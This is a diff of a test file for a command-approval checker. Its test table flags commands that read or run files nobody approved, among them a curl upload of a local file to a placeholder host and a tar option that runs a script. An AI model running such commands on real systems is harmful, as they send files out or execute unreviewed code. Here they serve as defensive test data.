@@ -213,10 +213,15 @@ describe('a file that a command runs', () => {
     [['curl', '-F', 'a=<rc', 'http://x'], '`curl` may read files'],
     [script('cat rc | awk -f s2'), '`awk` may run commands'],
     [['sudo', 'tar', '-I./s.sh', '-xf', 'a.tar'], '`tar` may run programs'],
+    [script('cat ./sub/*.sh'), 'which files `./sub/*.sh` matches'],
+    [script('cat sub/[a-z].sh'), 'which files `sub/[a-z].sh` matches'],
+    [['cat', 'sub'], 'what is in the folder `/w/sub`'],
+    [['ls', '--x=sub'], 'what is in the folder `/w/sub`'],
+    [['sudo', 'cat', '.'], 'what is in the folder `/w`'],
   ])('%j says that it runs what nobody bound: %s', async (argv, why) => {
     const { files } = createFiles();
     const { notBound = [] } = await look(argv, files);
-    expect(notBound.join('\n')).toContain('it runs files that this approval does not bind');
+    expect(notBound.join('\n')).toContain('files that this approval does not bind');
     expect(notBound.join('\n')).toContain(why);
   });
 
